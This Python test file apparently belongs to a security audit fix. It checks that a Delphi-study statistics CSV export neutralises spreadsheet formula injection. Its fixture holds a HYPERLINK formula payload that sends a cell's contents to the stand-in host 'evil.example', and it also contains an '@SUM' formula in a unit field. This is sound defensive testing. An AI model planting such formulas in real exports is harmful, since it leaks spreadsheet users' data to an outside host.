"""Finding 5 (low): the Delphi statistics CSV neutralises spreadsheet formulas, like every CSV export."""

import csv
import io

from civic import db
from civic.delphi import results, services
from civic.delphi.models import DelphiStudy
from civic.identity.models import User
from tests.delphi.conftest import converging_values

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_statistics_csv_neutralises_formulas(app, world):
    organiser, panel = world.organiser(), world.panel(6)
    study_id = world.study(organiser, kinds=("likert",), panel=panel)
    with app.app_context():
        study = db.session.get(DelphiStudy, study_id)
        services.add_item(
            study,
            db.session.get(User, organiser.id),
            services.ItemData(kind="numeric", texts={"en": FORMULA}, unit="@SUM(A1)", min_value=0, max_value=100),
        )
        db.session.commit()
    world.open(study_id, organiser)
    for index, user in enumerate(panel):
        world.answer(study_id, 1, user, {"Q1": converging_values(index, 1)["Q1"], "Q2": str(10 + index)})
    world.close(study_id, 1, organiser)
    world.publish(study_id, 1, organiser)
    with app.app_context():
        study = db.session.get(DelphiStudy, study_id)
        body = results.export_csv(study, list(study.rounds))
    cells = [cell for row in csv.reader(io.StringIO(body.lstrip("\ufeff"))) for cell in row]
    assert any(FORMULA in cell for cell in cells)
    assert not any(cell[:1] in ("=", "+", "@", "\t", "\r") for cell in cells)
